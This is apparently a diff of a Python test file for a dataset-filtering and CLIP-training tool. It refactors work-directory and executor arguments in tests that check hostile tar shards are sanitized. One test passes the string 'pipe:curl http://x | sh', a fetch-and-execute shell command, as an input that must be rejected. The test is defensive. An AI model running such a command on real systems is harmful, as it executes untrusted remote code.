@@ -80,7 +80,7 @@ def test_open_clip_train_never_sees_pickle_members(tmp_path):
     out = tmp_path / "out"
     out.mkdir()
     r = train_clip(data=str(shard), model="winnow-tiny", samples_seen=32, batch_size=16, lr=1e-3, warmup=1,
-                   wd=0.1, beta2=0.98, checkpoints=1, out_dir=out, work_dir=tmp_path / "work", data_id="x")
+                   wd=0.1, beta2=0.98, checkpoints=1, out_dir=out, work_root=tmp_path / "work")
     assert not marker.exists(), "a pickle member was unpickled"
     assert (out / "checkpoint.pt").exists() and r["steps"] >= 1
     dropped = r["sanitized"]["dropped"]
@@ -90,6 +90,7 @@ def test_open_clip_train_never_sees_pickle_members(tmp_path):
 
 def test_sanitized_shards_hold_only_allowlisted_members(tmp_path):
     from winnow import decode
+    from winnow.jobs import WorkDir
     from winnow.train import TrainError, sanitize_shards
 
     shard = _hostile_tar(tmp_path / "0.tar", tmp_path / "pwned", n=4)
@@ -97,9 +98,10 @@ def test_sanitized_shards_hold_only_allowlisted_members(tmp_path):
     with tarfile.open(clean, "w") as tf:
         _add(tf, "a.jpg", _jpeg())
         _add(tf, "a.txt", b"a caption")
-    data, stats = sanitize_shards(f"{shard}::{clean}", tmp_path / "safe", member_cap=10_000)
+    data, stats = sanitize_shards(f"{shard}::{clean}", WorkDir("t", "safe", tmp_path), member_cap=10_000)
     paths = data.split("::")
-    assert paths == [str(tmp_path / "safe" / "00000000.tar"), str(tmp_path / "safe" / "00000001.tar")]
+    safe = tmp_path / "t" / "safe" / "data"
+    assert paths == [str(safe / "00000000.tar"), str(safe / "00000001.tar")]
     with tarfile.open(paths[0]) as tf:
         names = tf.getnames()
     assert names and all(decode.allowed_member(n) for n in names)
@@ -107,7 +109,7 @@ def test_sanitized_shards_hold_only_allowlisted_members(tmp_path):
     assert os.path.islink(paths[1]) and stats["copied"] == 1          # a clean shard is linked, not copied
     for bad in ("pipe:curl http://x | sh", "s3://b/x.tar", str(tmp_path / "missing.tar")):
         with pytest.raises(TrainError):
-            sanitize_shards(bad, tmp_path / "safe2")
+            sanitize_shards(bad, WorkDir("t", "safe2", tmp_path))
     assert decode.filter_sample({"__key__": "k", "jpg": b"1", "pyd": b"2", "txt.gz": b"3", "cls": b"4"}) == \
         {"__key__": "k", "jpg": b"1", "cls": b"4"}
 
@@ -470,7 +472,7 @@ def test_a_remote_dask_cluster_gets_absolute_paths(demo_pool, tmp_path, monkeypa
 
     from distributed import LocalCluster
 
-    from winnow.compute import prefect_api
+    from winnow.executor import Executor, prefect_api
     from winnow.filters.engine import load_recipe, run
     from winnow.pool.view import Pool
 
@@ -483,7 +485,7 @@ def test_a_remote_dask_cluster_gets_absolute_paths(demo_pool, tmp_path, monkeypa
     with LocalCluster(n_workers=1, threads_per_worker=1, processes=True, dashboard_address=None,
                       host="127.0.0.1") as cluster:
         monkeypatch.chdir(project)
-        run(load_recipe("basic"), Pool.open("data/pool"), "out", executor="dask", workers=1,
-            address=cluster.scheduler_address, work_dir=".winnow/work/filter")
+        run(load_recipe("basic"), Pool.open("data/pool"), "out", executor=Executor("dask", 1, cluster.scheduler_address),
+            work_root=".winnow/work")
     assert (project / "out" / "uids.npy").read_bytes() == (tmp_path / "serial" / "uids.npy").read_bytes()
     assert not (elsewhere / ".winnow").exists() and not (elsewhere / "data").exists()
